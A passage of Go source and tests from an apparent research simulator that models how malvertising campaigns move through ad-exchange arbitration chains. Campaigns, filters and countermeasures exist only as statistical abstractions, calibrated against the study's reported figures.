	SharedSubmissionFilter bool
	// Seed drives generation.
	Seed uint64
}

// DefaultConfig returns the calibrated ecosystem defaults.
func DefaultConfig() Config {
	return Config{
		NumNetworks:        60,
		BenignCampaigns:    400,
		MaliciousCampaigns: 80,
		RogueIndex:         5,
		ShadyFraction:      0.4,
		Seed:               1,
	}
}

// Network is one ad network / ad exchange.
type Network struct {
	// Index is the network's market-share rank (0 = largest).
	Index int
	// Domain is the network's serving domain, e.g. "adserv.clickzone3.com".
	Domain string
	// Share is the network's normalized market share of publisher
	// contracts.
	Share float64
	// FilterQuality is the probability that the network's submission
	// screening rejects a malicious campaign. Large exchanges invest in
	// detection; small ones often cannot (§4.2).
	FilterQuality float64
	// Shady marks networks in the weakly-filtered corner of the market
	// that participate in the deep end of arbitration chains.
	Shady bool
	// Rogue marks the mid-sized poorly-filtering network of Figure 2.
	Rogue bool

	// benign and malicious are the accepted campaign inventories.
	benign    []*Campaign
	malicious []*Campaign
	// benignW and maliciousW are cumulative serve-weight tables aligned
	// with the inventories.
	benignW    []float64
	maliciousW []float64
}

// BenignInventory returns the accepted benign campaigns.
func (n *Network) BenignInventory() []*Campaign { return n.benign }

// MaliciousInventory returns the accepted malicious campaigns.
func (n *Network) MaliciousInventory() []*Campaign { return n.malicious }

// Contamination returns the fraction of the network's serve weight held by
// malicious campaigns — the per-impression probability that a regular
// (non-remnant) auction at this network serves a malvertisement.
func (n *Network) Contamination() float64 {
	mw := totalWeight(n.maliciousW)
	bw := totalWeight(n.benignW)
	if mw+bw == 0 {
		return 0
	}
	return mw / (mw + bw)
}

func totalWeight(cum []float64) float64 {
	if len(cum) == 0 {
		return 0
	}
	return cum[len(cum)-1]
}

// Ecosystem is the generated advertising market.
type Ecosystem struct {
	Networks  []*Network
	Campaigns []*Campaign
	cfg       Config
	shadyIdx  []int
	shadyDist *stats.Weighted
	shareDist *stats.Weighted
	// remnantPool holds every malicious campaign placed anywhere in the
	// shady market, with a cumulative weight table. Desperate remnant
	// resellers source from this pool when their own inventory runs dry.
	remnantPool  []*Campaign
	remnantPoolW []float64
}

// Generate builds the ecosystem: networks with Zipf market shares, filter
// quality declining with size, campaign submission and acceptance.
func Generate(cfg Config) (*Ecosystem, error) {
	if cfg.NumNetworks < 10 {
		return nil, fmt.Errorf("adnet: NumNetworks must be at least 10, got %d", cfg.NumNetworks)
	}
	if cfg.BenignCampaigns <= 0 || cfg.MaliciousCampaigns <= 0 {
		return nil, fmt.Errorf("adnet: campaign counts must be positive")
	}
	rng := stats.NewRNG(cfg.Seed).Fork("adnet")

	e := &Ecosystem{cfg: cfg}
	zipf := stats.NewZipf(cfg.NumNetworks, 1.3)
	shadyStart := int(float64(cfg.NumNetworks) * (1 - cfg.ShadyFraction))

	netStems := []string{"click", "ad", "traffic", "banner", "pixel", "reach", "media", "spot", "impress", "yield"}
	netTails := []string{"nexus", "zone", "works", "grid", "hub", "flow", "bridge", "link", "stack", "wave"}
	usedDomains := map[string]bool{}
	shares := make([]float64, cfg.NumNetworks)
	for i := 0; i < cfg.NumNetworks; i++ {
		var domain string
		for {
			domain = "adserv." + stats.Pick(rng, netStems) + stats.Pick(rng, netTails) + fmt.Sprintf("%d", i) + ".com"
			if !usedDomains[domain] {
				usedDomains[domain] = true
				break
			}
		}
		n := &Network{
			Index:  i,
			Domain: domain,
			Share:  zipf.Mass(i),
		}
		switch {
		case i == cfg.RogueIndex:
			// The Figure-2 rogue: sizeable share, nearly useless filter.
			n.Rogue = true
			n.Shady = true
			n.FilterQuality = 0.15 + 0.10*rng.Float64()
		case i >= shadyStart:
			n.Shady = true
			n.FilterQuality = 0.10 + 0.50*rng.Float64()
		case i < 6:
			// The majors: heavy investment in screening, but not perfect —
			// the Yahoo incident (Dec 2013) showed even top exchanges leak.
			n.FilterQuality = 0.985 + 0.013*rng.Float64()
		default:
			n.FilterQuality = 0.90 + 0.08*rng.Float64()
		}
		shares[i] = n.Share
		e.Networks = append(e.Networks, n)
		if n.Shady {
			e.shadyIdx = append(e.shadyIdx, i)
		}
	}
	e.shareDist = stats.NewWeighted(shares)

	// Shady-resale market: weight shady networks by share, with the rogue
	// boosted (it actively buys remnant inventory).
	shadyW := make([]float64, len(e.shadyIdx))
	for j, idx := range e.shadyIdx {
		shadyW[j] = e.Networks[idx].Share
		if e.Networks[idx].Rogue {
			shadyW[j] *= 8
		}
	}
	e.shadyDist = stats.NewWeighted(shadyW)

	// Campaign generation and submission.
	e.Campaigns = generateCampaigns(cfg, rng.Fork("campaigns"))
	e.submitCampaigns(rng.Fork("submission"))
	e.fillInventories(rng.Fork("fill"))
	for _, n := range e.Networks {
		n.buildWeightTables()
	}
	e.buildRemnantPool()
	return e, nil
}

// buildRemnantPool collects the malicious campaigns circulating in the
// shady market.
func (e *Ecosystem) buildRemnantPool() {
	seen := map[string]bool{}
	for _, idx := range e.shadyIdx {
		for _, c := range e.Networks[idx].malicious {
			if !seen[c.ID] {
				seen[c.ID] = true
				e.remnantPool = append(e.remnantPool, c)
			}
		}
	}
	e.remnantPoolW = cumWeights(e.remnantPool)
}

// fillInventories guarantees every network a trickle of benign fill ads
// (house ads, low-CPM remnant campaigns). Even the shadiest remnant shop
// serves some legitimate content, so no network's traffic is 100%
// malicious — Figure 1 tops out above one third, not at one.
func (e *Ecosystem) fillInventories(rng *stats.RNG) {
	var benignPool []*Campaign
	for _, c := range e.Campaigns {
		if !c.IsMalicious() {
			benignPool = append(benignPool, c)
		}
	}
	for _, n := range e.Networks {
		have := map[string]bool{}
		for _, c := range n.benign {
			have[c.ID] = true
		}
		want := 2 + rng.Intn(3)
		for len(n.benign) < want {
			c := stats.Pick(rng, benignPool)
			if have[c.ID] {
				continue
			}
			have[c.ID] = true
			// Fill placements carry little weight: they are what runs when
			// nothing else bid.
			fill := *c
			fill.Weight = 0.15 + 0.15*rng.Float64()
			n.benign = append(n.benign, &fill)
		}
	}
}

// submitCampaigns models advertisers shopping their campaigns to networks.
// Benign advertisers submit to a handful of networks that mostly accept.
// Malicious advertisers spray submissions, preferring the weakly-filtered
// networks where their acceptance odds are best — the "preference from the
// side of the malicious advertisers to specific ad networks" of §4.2.
func (e *Ecosystem) submitCampaigns(rng *stats.RNG) {
	for _, c := range e.Campaigns {
		if !c.IsMalicious() {
			tries := 2 + rng.Intn(4)
			for t := 0; t < tries; t++ {
				idx := e.shareDist.Sample(rng)
				n := e.Networks[idx]
				// Legitimate advertisers mostly avoid disreputable
				// exchanges: brand-safety teams keep them off shady
				// inventory, which is why the shady corner of the market
				// has so little benign demand to dilute its malvertising.
				// The rogue mid-sized network still attracts brand budgets
				// (its size masks its filtering deficit — the Yahoo-style
				// case), while the worst remnant shops see almost none.
				if rng.Bool(n.benignAvoidance()) {
					continue
				}
				// Benign campaigns pass screening; tiny chance of a bogus
				// rejection.
				if rng.Bool(0.97) {
					n.accept(c)
				}
			}
			continue
		}
		// Malicious: try many networks, biased 80/20 toward shady ones.
		tries := 6 + rng.Intn(8)
		burned := false // true once a shared blacklist carries the campaign
		for t := 0; t < tries; t++ {
			var idx int
			if rng.Bool(0.8) {
				idx = e.shadyIdx[e.shadyDist.Sample(rng)]
			} else {
				idx = e.shareDist.Sample(rng)
			}
			n := e.Networks[idx]
			if burned {
				continue // every later submission bounces off the shared list
			}
			if rng.Bool(n.FilterQuality) {
				// This network's screening caught the campaign. With the
				// §5.1 shared blacklist, the catch is broadcast.
				if e.cfg.SharedSubmissionFilter {
					burned = true
				}
				continue
			}
			n.accept(c)
		}
	}
}

// benignAvoidance is the probability that a legitimate advertiser refuses
// to place a given submission with this network.
func (n *Network) benignAvoidance() float64 {
	switch {
	case n.Rogue:
		return 0.20
	case n.Shady && n.FilterQuality < 0.25:
		return 0.92 // pure remnant shops: almost no brand demand
	case n.Shady:
		return 0.35
	default:
		return 0
	}
}

func (n *Network) accept(c *Campaign) {
	for _, prev := range c.AcceptedBy {
		if prev == n.Index {
			return
		}
	}
	c.AcceptedBy = append(c.AcceptedBy, n.Index)
	if c.IsMalicious() {
		n.malicious = append(n.malicious, c)
	} else {
		n.benign = append(n.benign, c)
	}
}

func (n *Network) buildWeightTables() {
	n.benignW = cumWeights(n.benign)
	n.maliciousW = cumWeights(n.malicious)
}

func cumWeights(cs []*Campaign) []float64 {
	out := make([]float64, len(cs))
	sum := 0.0
	for i, c := range cs {
		sum += c.Weight
		out[i] = sum
	}
	return out
}

// Config returns the generation configuration.
func (e *Ecosystem) Config() Config { return e.cfg }

// NetworkByDomain returns the network serving from domain, or nil.
func (e *Ecosystem) NetworkByDomain(domain string) *Network {
	for _, n := range e.Networks {
		if n.Domain == domain {
			return n
		}
	}
	return nil
}

// CampaignByID returns the campaign with the given ID, or nil.
func (e *Ecosystem) CampaignByID(id string) *Campaign {
	for _, c := range e.Campaigns {
		if c.ID == id {
			return c
		}
	}
	return nil
}

// InjectCampaign places a campaign directly into a network's inventory,
// bypassing submission screening — the "Yahoo incident" scenario (§4.2): in
// December 2013 a malicious campaign ran on a top exchange for days after
// evading its filters. Weight tables and the remnant pool are rebuilt.
func (e *Ecosystem) InjectCampaign(networkIdx int, c *Campaign) error {
	if networkIdx < 0 || networkIdx >= len(e.Networks) {
		return fmt.Errorf("adnet: network index %d out of range", networkIdx)
	}
	e.Networks[networkIdx].accept(c)
	e.Networks[networkIdx].buildWeightTables()
	e.remnantPool, e.remnantPoolW = nil, nil
	e.buildRemnantPool()
	found := false
	for _, have := range e.Campaigns {
		if have == c {
			found = true
			break
		}
	}
	if !found {
		e.Campaigns = append(e.Campaigns, c)
	}
	return nil
}

// RemoveCampaign withdraws a campaign from a network's inventory (the
// cleanup after an incident is detected).
func (e *Ecosystem) RemoveCampaign(networkIdx int, id string) error {
	if networkIdx < 0 || networkIdx >= len(e.Networks) {
		return fmt.Errorf("adnet: network index %d out of range", networkIdx)
	}
	n := e.Networks[networkIdx]
	for i, c := range n.malicious {
		if c.ID == id {
			n.malicious = append(n.malicious[:i], n.malicious[i+1:]...)
			n.buildWeightTables()
			e.remnantPool, e.remnantPoolW = nil, nil
			e.buildRemnantPool()
			return nil
		}
	}
	for i, c := range n.benign {
		if c.ID == id {
			n.benign = append(n.benign[:i], n.benign[i+1:]...)
			n.buildWeightTables()
			return nil
		}
	}
	return fmt.Errorf("adnet: campaign %s not in network %d's inventory", id, networkIdx)
}

// pickWeighted samples an index from a cumulative weight table.
func pickWeighted(rng *stats.RNG, cum []float64) int {
	if len(cum) == 0 {
		return -1
	}
	total := cum[len(cum)-1]
	u := rng.Float64() * total
	lo, hi := 0, len(cum)-1
	for lo < hi {
		mid := (lo + hi) / 2
		if cum[mid] < u {
			lo = mid + 1
		} else {
			hi = mid
		}
	}
	return lo
}
