package adnet

import (
	"madave/internal/stats"
)

// MaxChain caps arbitration chain length. The paper observed malicious
// chains of up to 30 auctions (Figure 5).
const MaxChain = 30

// Decision is the outcome of serving one ad impression: the arbitration
// chain of networks the slot passed through and the campaign finally
// delivered.
type Decision struct {
	// Chain is the sequence of network indices that handled the slot, in
	// auction order. Chain[0] is the publisher's primary network; the last
	// entry is the network that served the ad. Networks may repeat: the
	// paper observed the same networks buying and selling the same slot
	// multiple times.
	Chain []int
	// Campaign is the advertisement served.
	Campaign *Campaign
}

// Auctions returns the number of auctions the slot participated in (the
// Figure 5 x-axis): the chain length.
func (d *Decision) Auctions() int { return len(d.Chain) }

// ServingNetwork returns the index of the network that delivered the ad.
func (d *Decision) ServingNetwork() int { return d.Chain[len(d.Chain)-1] }

// Serve runs the arbitration process for one impression whose slot starts
// at the publisher's primary network. The walk has two regimes:
//
//   - The regular market: the network either serves from its own inventory
//     or resells the impression to another exchange, with resale appetite
//     shrinking at each hop (deeper auctions are worth less).
//   - The remnant loop: once a shady network resells to another shady
//     network, the slot has fallen out of the regular market. Remnant
//     resellers flip slots aggressively among themselves, and what finally
//     monetizes such exhausted inventory is overwhelmingly malicious.
//
// This two-regime structure is what produces Figure 5's shape: benign
// chains decay quickly (≤ ~15 auctions), while malicious chains show a
// mid-length bump and a tail out to 30.
func (e *Ecosystem) Serve(rng *stats.RNG, startNetwork int) Decision {
	return e.ServeWithPolicy(rng, startNetwork, nil)
}

// ServePolicy restricts the arbitration process — the mechanism behind the
// §5.1 "penalizing" countermeasure, in which networks caught delivering
// malvertisements are forbidden from participating in arbitrations.
type ServePolicy struct {
	// BannedFromResale networks may still serve their own publishers'
	// slots but cannot buy impressions in arbitration auctions.
	BannedFromResale map[int]bool
}

// ServeWithPolicy is Serve under a (possibly nil) policy.
func (e *Ecosystem) ServeWithPolicy(rng *stats.RNG, startNetwork int, policy *ServePolicy) Decision {
	cur := startNetwork
	chain := []int{cur}
	remnant := false

	banned := func(idx int) bool {
		return policy != nil && policy.BannedFromResale[idx]
	}

	for depth := 0; depth < MaxChain-1; depth++ {
		n := e.Networks[cur]
		var pResell float64
		switch {
		case remnant:
			pResell = 0.84
		case n.Shady:
			pResell = 0.48 * powf(0.90, depth)
		default:
			pResell = 0.40 * powf(0.85, depth)
		}
		if !rng.Bool(pResell) {
			break
		}
		next := -1
		if remnant || (n.Shady && depth >= 3) {
			// Draw a buyer from the remnant market, skipping banned
			// networks. When every candidate is banned, the auction fails
			// and the current holder serves.
			for attempt := 0; attempt < 8; attempt++ {
				cand := e.shadyIdx[e.shadyDist.Sample(rng)]
				if !banned(cand) {
					next = cand
					break
				}
			}
			if next >= 0 && n.Shady {
				remnant = true
			}
		} else {
			for attempt := 0; attempt < 8; attempt++ {
				cand := e.shareDist.Sample(rng)
				if !banned(cand) {
					next = cand
					break
				}
			}
		}
		if next < 0 {
			break
		}
		chain = append(chain, next)
		cur = next
	}

	terminal := e.Networks[cur]
	return Decision{
		Chain:    chain,
		Campaign: e.pickCampaign(rng, terminal, remnant, len(chain)),
	}
}

// pickCampaign selects the ad the terminal network serves. In the regular
// market the malicious probability is the network's inventory
// contamination. In the remnant loop, malicious campaigns dominate, more so
// the deeper the chain — legitimate demand for a slot resold 15 times is
// essentially zero.
func (e *Ecosystem) pickCampaign(rng *stats.RNG, n *Network, remnant bool, chainLen int) *Campaign {
	pMal := n.Contamination()
	if remnant {
		pMal = 0.72 + 0.02*float64(chainLen)
		if chainLen > 15 {
			// A slot flipped more than fifteen times has no legitimate
			// demand left at all; the paper saw no benign chains past 15
			// auctions (Figure 5).
			pMal = 1
		} else if pMal > 0.97 {
			pMal = 0.97
		}
	}
	if rng.Bool(pMal) {
		if len(n.malicious) > 0 {
			return n.malicious[pickWeighted(rng, n.maliciousW)]
		}
		// A remnant reseller with no malicious inventory of its own
		// sources from the shady market's circulating pool rather than
		// serving a slot nobody legitimate wants.
		if remnant && len(e.remnantPool) > 0 {
			return e.remnantPool[pickWeighted(rng, e.remnantPoolW)]
		}
	}
	if len(n.benign) > 0 {
		return n.benign[pickWeighted(rng, n.benignW)]
	}
	if len(n.malicious) > 0 {
		return n.malicious[pickWeighted(rng, n.maliciousW)]
	}
	// A network with no inventory at all serves a house ad: model it as the
	// ecosystem's first benign campaign (guaranteed by Config validation).
	for _, c := range e.Campaigns {
		if !c.IsMalicious() {
			return c
		}
	}
	return e.Campaigns[0]
}

func powf(base float64, exp int) float64 {
	out := 1.0
	for i := 0; i < exp; i++ {
		out *= base
	}
	return out
}
