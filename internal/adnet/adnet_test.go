package adnet

import (
	"strings"
	"testing"
	"testing/quick"

	"madave/internal/stats"
)

func genEco(t *testing.T) *Ecosystem {
	t.Helper()
	e, err := Generate(DefaultConfig())
	if err != nil {
		t.Fatal(err)
	}
	return e
}

func TestGenerateBasics(t *testing.T) {
	e := genEco(t)
	cfg := DefaultConfig()
	if len(e.Networks) != cfg.NumNetworks {
		t.Fatalf("networks = %d", len(e.Networks))
	}
	for i, n := range e.Networks {
		if n.Index != i {
			t.Fatalf("index mismatch at %d", i)
		}
		if n.FilterQuality < 0 || n.FilterQuality > 1 {
			t.Fatalf("filter quality %f", n.FilterQuality)
		}
		if !strings.HasPrefix(n.Domain, "adserv.") {
			t.Fatalf("domain = %q", n.Domain)
		}
	}
	// Shares decrease with index (Zipf).
	for i := 1; i < len(e.Networks); i++ {
		if e.Networks[i].Share > e.Networks[i-1].Share {
			t.Fatalf("share not decreasing at %d", i)
		}
	}
}

func TestGenerateValidation(t *testing.T) {
	cfg := DefaultConfig()
	cfg.NumNetworks = 5
	if _, err := Generate(cfg); err == nil {
		t.Fatal("too few networks should fail")
	}
	cfg = DefaultConfig()
	cfg.BenignCampaigns = 0
	if _, err := Generate(cfg); err == nil {
		t.Fatal("zero benign campaigns should fail")
	}
}

func TestGenerateDeterministic(t *testing.T) {
	e1 := genEco(t)
	e2 := genEco(t)
	for i := range e1.Networks {
		if e1.Networks[i].Domain != e2.Networks[i].Domain ||
			e1.Networks[i].FilterQuality != e2.Networks[i].FilterQuality {
			t.Fatalf("network %d differs between runs", i)
		}
	}
	for i := range e1.Campaigns {
		if e1.Campaigns[i].CreativeHost != e2.Campaigns[i].CreativeHost {
			t.Fatalf("campaign %d differs between runs", i)
		}
	}
}

func TestRogueNetwork(t *testing.T) {
	e := genEco(t)
	rogue := e.Networks[DefaultConfig().RogueIndex]
	if !rogue.Rogue || !rogue.Shady {
		t.Fatal("rogue network not flagged")
	}
	if rogue.FilterQuality > 0.3 {
		t.Fatalf("rogue filter quality = %f, should be poor", rogue.FilterQuality)
	}
	// The rogue is mid-sized: it must hold a meaningful share.
	if rogue.Share < 0.01 {
		t.Fatalf("rogue share = %f, should be sizeable", rogue.Share)
	}
}

func TestFilterQualityGradient(t *testing.T) {
	e := genEco(t)
	var topQ, shadyQ float64
	topN, shadyN := 0, 0
	for _, n := range e.Networks {
		if n.Index < 6 && !n.Rogue {
			topQ += n.FilterQuality
			topN++
		}
		if n.Shady && !n.Rogue {
			shadyQ += n.FilterQuality
			shadyN++
		}
	}
	if topQ/float64(topN) < 0.98 {
		t.Fatalf("top networks filter quality avg = %f", topQ/float64(topN))
	}
	if shadyQ/float64(shadyN) > 0.7 {
		t.Fatalf("shady networks filter quality avg = %f", shadyQ/float64(shadyN))
	}
}

func TestMaliciousAcceptanceSkew(t *testing.T) {
	e := genEco(t)
	topMal, shadyMal := 0, 0
	for _, n := range e.Networks {
		if n.Index < 6 && !n.Rogue {
			topMal += len(n.malicious)
		}
		if n.Shady {
			shadyMal += len(n.malicious)
		}
	}
	if shadyMal <= topMal*3 {
		t.Fatalf("malicious campaigns should concentrate at shady networks: top=%d shady=%d", topMal, shadyMal)
	}
}

func TestCampaignDomains(t *testing.T) {
	e := genEco(t)
	seenKinds := map[Kind]bool{}
	for _, c := range e.Campaigns {
		seenKinds[c.Kind] = true
		if c.CreativeHost == "" || c.LandingHost == "" {
			t.Fatalf("campaign %s missing domains", c.ID)
		}
		if c.HasPayload() && c.PayloadHost == "" {
			t.Fatalf("campaign %s (%s) missing payload host", c.ID, c.Kind)
		}
		if !c.HasPayload() && c.PayloadHost != "" {
			t.Fatalf("campaign %s (%s) has unexpected payload host", c.ID, c.Kind)
		}
		if c.Kind == KindBlacklisted && c.ListedOn <= 5 {
			t.Fatalf("blacklisted campaign %s on only %d lists", c.ID, c.ListedOn)
		}
		if c.Kind == KindBenign && c.ListedOn > 5 {
			t.Fatalf("benign campaign %s on %d lists", c.ID, c.ListedOn)
		}
	}
	for _, k := range []Kind{KindBenign, KindBlacklisted, KindLinkHijack, KindCloaking,
		KindDriveBy, KindDeceptive, KindMaliciousFlash, KindModelOnly} {
		if !seenKinds[k] {
			t.Fatalf("no campaign of kind %s generated", k)
		}
	}
}

func TestKindStrings(t *testing.T) {
	if KindBenign.String() != "benign" || KindDriveBy.String() != "drive-by" {
		t.Fatal("kind names wrong")
	}
	if !strings.Contains(Kind(99).String(), "99") {
		t.Fatal("unknown kind should include number")
	}
	if KindBenign.IsMalicious() {
		t.Fatal("benign is not malicious")
	}
	if !KindCloaking.IsMalicious() {
		t.Fatal("cloaking is malicious")
	}
}

// simulate runs impressions and collects benign/malicious chain-length
// histograms plus per-network counters.
func simulate(e *Ecosystem, n int, seed uint64) (benign, malicious stats.IntHist, perNetTotal, perNetMal []int, kinds stats.Counter) {
	rng := stats.NewRNG(seed).Fork("sim")
	perNetTotal = make([]int, len(e.Networks))
	perNetMal = make([]int, len(e.Networks))
	for i := 0; i < n; i++ {
		start := e.shareDist.Sample(rng)
		d := e.Serve(rng, start)
		serving := d.ServingNetwork()
		perNetTotal[serving]++
		if d.Campaign.IsMalicious() {
			malicious.Add(d.Auctions())
			perNetMal[serving]++
			kinds.Add(d.Campaign.Kind.String())
		} else {
			benign.Add(d.Auctions())
		}
	}
	return
}

const simN = 300_000

func TestGlobalMaliciousRate(t *testing.T) {
	e := genEco(t)
	benign, malicious, _, _, _ := simulate(e, simN, 42)
	rate := float64(malicious.Total()) / float64(benign.Total()+malicious.Total())
	// Paper: ~1% of collected advertisements were malicious.
	if rate < 0.005 || rate > 0.02 {
		t.Fatalf("global malicious rate = %.4f, want ~0.01", rate)
	}
}

func TestChainShapesFigure5(t *testing.T) {
	e := genEco(t)
	benign, malicious, _, _, _ := simulate(e, simN, 43)

	// Benign chains: fast decay, effectively bounded by ~15 auctions.
	if benign.Quantile(0.999) > 15 {
		t.Fatalf("benign chain p99.9 = %d, want <= 15", benign.Quantile(0.999))
	}
	// Benign histogram decreasing over the first few lengths.
	bs := benign.Series()
	if !(bs[1] > bs[2] && bs[2] > bs[3]) {
		t.Fatalf("benign chain counts not decreasing: %v", bs[:6])
	}

	// Malicious chains reach far deeper.
	if malicious.Max() < 18 {
		t.Fatalf("malicious chain max = %d, want >= 18", malicious.Max())
	}
	if malicious.Max() > MaxChain {
		t.Fatalf("malicious chain max = %d exceeds cap", malicious.Max())
	}
	// ~2% of malvertisements sit in chains of more than 15 auctions.
	tail := malicious.TailShare(15)
	if tail < 0.005 || tail > 0.06 {
		t.Fatalf("malicious >15-auction share = %.4f, want ~0.02", tail)
	}
	// Malicious chains are longer on average (the mid-chain bump).
	if malicious.Mean() <= benign.Mean()+1 {
		t.Fatalf("malicious mean chain %.2f vs benign %.2f: bump missing",
			malicious.Mean(), benign.Mean())
	}
	// The bump: malicious mass in the 5-15 range outweighs the same range
	// for benign *proportionally*.
	malMid := midShare(&malicious, 5, 15)
	benMid := midShare(&benign, 5, 15)
	if malMid <= benMid*2 {
		t.Fatalf("malicious mid-chain share %.3f vs benign %.3f", malMid, benMid)
	}
}

func midShare(h *stats.IntHist, lo, hi int) float64 {
	if h.Total() == 0 {
		return 0
	}
	n := 0
	for v := lo; v <= hi; v++ {
		n += h.Get(v)
	}
	return float64(n) / float64(h.Total())
}

func TestFigure1NetworkRatios(t *testing.T) {
	e := genEco(t)
	_, _, perNetTotal, perNetMal, _ := simulate(e, simN, 44)

	over13 := 0
	offenders := 0
	for i := range e.Networks {
		if perNetTotal[i] < 100 {
			continue
		}
		ratio := float64(perNetMal[i]) / float64(perNetTotal[i])
		if perNetMal[i] > 0 {
			offenders++
		}
		if ratio > 1.0/3 {
			over13++
		}
	}
	// Paper: some networks serve malvertisements in more than a third of
	// their traffic.
	if over13 < 1 {
		t.Fatal("no network with malicious ratio > 1/3")
	}
	if offenders < 10 {
		t.Fatalf("only %d offending networks; Figure 1 plots many", offenders)
	}
}

func TestFigure2RogueNetwork(t *testing.T) {
	e := genEco(t)
	_, _, perNetTotal, perNetMal, _ := simulate(e, simN, 45)

	total := 0
	for _, c := range perNetTotal {
		total += c
	}
	rogue := DefaultConfig().RogueIndex
	share := float64(perNetTotal[rogue]) / float64(total)
	// Paper: a network serving ~3% of all ads was responsible for a
	// significant amount of malvertisements.
	if share < 0.015 || share > 0.06 {
		t.Fatalf("rogue ad share = %.4f, want ~0.03", share)
	}
	totalMal := 0
	for _, c := range perNetMal {
		totalMal += c
	}
	rogueMalShare := float64(perNetMal[rogue]) / float64(totalMal)
	if rogueMalShare < 0.10 {
		t.Fatalf("rogue malvertisement share = %.4f, want significant", rogueMalShare)
	}
}

func TestKindMixtureMatchesTable1(t *testing.T) {
	e := genEco(t)
	_, malicious, _, _, kinds := simulate(e, simN, 46)
	total := float64(malicious.Total())
	if total < 1000 {
		t.Fatalf("only %f malicious impressions; raise simN", total)
	}
	// Blacklisted campaigns dominate (paper: 72.6% of incidents).
	blShare := float64(kinds.Get(KindBlacklisted.String())) / total
	if blShare < 0.60 || blShare > 0.85 {
		t.Fatalf("blacklisted share = %.3f, want ~0.73", blShare)
	}
	hjShare := float64(kinds.Get(KindLinkHijack.String())) / total
	if hjShare < 0.12 || hjShare > 0.32 {
		t.Fatalf("hijack share = %.3f, want ~0.21", hjShare)
	}
	clShare := float64(kinds.Get(KindCloaking.String())) / total
	if clShare < 0.01 || clShare > 0.12 {
		t.Fatalf("cloaking share = %.3f, want ~0.047", clShare)
	}
	// Payload kinds are rare.
	execShare := float64(kinds.Get(KindDriveBy.String())+kinds.Get(KindDeceptive.String())) / total
	if execShare > 0.05 {
		t.Fatalf("executable share = %.3f, want ~0.01", execShare)
	}
}

func TestRepeatedNetworksInChains(t *testing.T) {
	e := genEco(t)
	rng := stats.NewRNG(47).Fork("sim")
	repeats := 0
	long := 0
	for i := 0; i < 200_000; i++ {
		d := e.Serve(rng, e.shareDist.Sample(rng))
		if d.Auctions() < 6 {
			continue
		}
		long++
		seen := map[int]bool{}
		for _, idx := range d.Chain {
			if seen[idx] {
				repeats++
				break
			}
			seen[idx] = true
		}
	}
	if long == 0 {
		t.Fatal("no long chains at all")
	}
	// Paper: "we noticed that the same ad networks buy and sell the same
	// slot multiple times".
	if float64(repeats)/float64(long) < 0.2 {
		t.Fatalf("repeat participation in %d/%d long chains; expected common", repeats, long)
	}
}

func TestDecisionAccessors(t *testing.T) {
	d := Decision{Chain: []int{3, 1, 4}, Campaign: &Campaign{Kind: KindBenign}}
	if d.Auctions() != 3 || d.ServingNetwork() != 4 {
		t.Fatalf("accessors wrong: %+v", d)
	}
}

func TestLookupHelpers(t *testing.T) {
	e := genEco(t)
	n := e.Networks[7]
	if e.NetworkByDomain(n.Domain) != n {
		t.Fatal("NetworkByDomain failed")
	}
	if e.NetworkByDomain("nope.example.com") != nil {
		t.Fatal("NetworkByDomain should return nil")
	}
	c := e.Campaigns[3]
	if e.CampaignByID(c.ID) != c {
		t.Fatal("CampaignByID failed")
	}
	if e.CampaignByID("cmp-99999") != nil {
		t.Fatal("CampaignByID should return nil")
	}
}

func TestContamination(t *testing.T) {
	e := genEco(t)
	// Top networks nearly clean; rogue heavily contaminated by serve weight.
	top := e.Networks[0].Contamination()
	rogue := e.Networks[DefaultConfig().RogueIndex].Contamination()
	if top > 0.01 {
		t.Fatalf("top network contamination = %f", top)
	}
	if rogue < top {
		t.Fatalf("rogue contamination %f not above top %f", rogue, top)
	}
}

func TestServeAlwaysReturnsCampaign(t *testing.T) {
	e := genEco(t)
	rng := stats.NewRNG(48)
	for i := 0; i < 10_000; i++ {
		d := e.Serve(rng, rng.Intn(len(e.Networks)))
		if d.Campaign == nil {
			t.Fatal("nil campaign")
		}
		if len(d.Chain) == 0 || len(d.Chain) > MaxChain {
			t.Fatalf("chain length %d", len(d.Chain))
		}
	}
}

// Property: every decision's chain is well-formed — non-empty, within the
// cap, all indices valid — and the campaign is in (or sourced for) the
// terminal network's market.
func TestServeInvariantsProperty(t *testing.T) {
	e := genEco(t)
	rng := stats.NewRNG(1234)
	if err := quick.Check(func(seedByte uint8) bool {
		start := int(seedByte) % len(e.Networks)
		d := e.Serve(rng, start)
		if len(d.Chain) == 0 || len(d.Chain) > MaxChain {
			return false
		}
		if d.Chain[0] != start {
			return false
		}
		for _, idx := range d.Chain {
			if idx < 0 || idx >= len(e.Networks) {
				return false
			}
		}
		return d.Campaign != nil && d.Campaign.Weight > 0
	}, &quick.Config{MaxCount: 2000}); err != nil {
		t.Fatal(err)
	}
}

// Property: banning every shady network from resale means no decision's
// chain (after the first hop) contains a banned network.
func TestServePolicyProperty(t *testing.T) {
	e := genEco(t)
	policy := &ServePolicy{BannedFromResale: map[int]bool{}}
	for _, idx := range e.shadyIdx {
		policy.BannedFromResale[idx] = true
	}
	rng := stats.NewRNG(4321)
	for i := 0; i < 20_000; i++ {
		start := rng.Intn(len(e.Networks))
		d := e.ServeWithPolicy(rng, start, policy)
		for j, idx := range d.Chain {
			if j == 0 {
				continue // the publisher's own network may be shady
			}
			if policy.BannedFromResale[idx] {
				t.Fatalf("banned network %d bought a slot: chain %v", idx, d.Chain)
			}
		}
	}
}

func TestInjectAndRemoveCampaign(t *testing.T) {
	e, err := Generate(DefaultConfig())
	if err != nil {
		t.Fatal(err)
	}
	evil := &Campaign{
		ID: "cmp-injected", Kind: KindDriveBy,
		CreativeHost: "ads.injected.com", LandingHost: "www.injected.com",
		PayloadHost: "dl.injected.com", Weight: 10,
	}
	before := e.Networks[0].Contamination()
	if err := e.InjectCampaign(0, evil); err != nil {
		t.Fatal(err)
	}
	if e.Networks[0].Contamination() <= before {
		t.Fatal("injection did not raise contamination")
	}
	if e.CampaignByID("cmp-injected") == nil {
		t.Fatal("injected campaign not registered")
	}
	// Injecting again must not duplicate.
	if err := e.InjectCampaign(0, evil); err != nil {
		t.Fatal(err)
	}
	count := 0
	for _, c := range e.Networks[0].MaliciousInventory() {
		if c.ID == "cmp-injected" {
			count++
		}
	}
	if count != 1 {
		t.Fatalf("injected %d times", count)
	}

	if err := e.RemoveCampaign(0, "cmp-injected"); err != nil {
		t.Fatal(err)
	}
	if e.Networks[0].Contamination() > before+1e-12 {
		t.Fatal("removal did not restore contamination")
	}
	if err := e.RemoveCampaign(0, "cmp-injected"); err == nil {
		t.Fatal("double removal should fail")
	}
	if err := e.InjectCampaign(-1, evil); err == nil {
		t.Fatal("bad index should fail")
	}
